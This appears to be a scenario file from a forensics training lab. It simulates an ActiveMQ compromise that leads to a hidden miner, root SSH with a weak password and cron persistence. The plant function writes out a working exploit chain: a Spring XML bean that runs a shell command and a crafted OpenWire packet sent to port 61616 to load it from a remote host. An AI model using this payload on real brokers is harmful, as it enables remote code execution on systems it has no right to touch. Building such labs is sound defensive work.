// Read as local time, the request lies eight hours before the miner; at its very minute the owner logs in.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { noJournal } from '../../long-ago.ts'
import { ordinary } from '../../past.ts'
import type { Stage } from '../../stage.ts'
import { owner, weak, weakRoot } from '../../weak-root.ts'

export function dress(dress: Dress): void {
  weakRoot(dress, { ...ordinary, friends: [owner], traditional: { offset: 8 } })
  dress.zone('Asia/Shanghai')
  dress.write('/etc/rsyslog.d/00-old.conf', '$ActionFileDefaultTemplate RSYSLOG_TraditionalFileFormat\n')
  noJournal(dress)
  dress.toy({
    unit: 'mq',
    user: 'activemq',
    exe: '/usr/lib/jvm/java-11-openjdk-amd64/bin/java',
    title:
      '/usr/lib/jvm/java-11-openjdk-amd64/bin/java -Duser.timezone=UTC -Dactivemq.home=/opt/activemq -jar /opt/activemq/bin/activemq.jar start',
    home: '/opt/activemq',
    play: 'activemq',
  })
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/tmp/.amq/amqd', cron: false })
  stage.offer(
    'b.xml',
    `<beans><bean id="pb" class="java.lang.ProcessBuilder" init-method="start"><constructor-arg><list><value>sh</value><value>-c</value><value>${line}</value></list></constructor-arg></bean></beans>`,
  )
  await stage.inside('mkdir -p /home/activemq; chown activemq: /home/activemq')
  await stage.ssh(owner.address, 'root', { password: weak }, 'df -h')
  stage.mark('occurrence')
  const name = 'org.springframework.context.support.ClassPathXmlApplicationContext'
  const packet = `\\x1f\\x00\\x00\\x01${name}\\x01http://${stage.values['SHOP']}/b.xml`
  await stage.outside(`printf '${packet}' | curl -s -m 3 --interface 203.0.113.98 telnet://$HOST:61616 >/dev/null || true`)
  await stage.inside('while ! pgrep -x amqd; do sleep 0.2; done; pkill -x amqd')
  await stage.byCron(line, 'activemq')
}
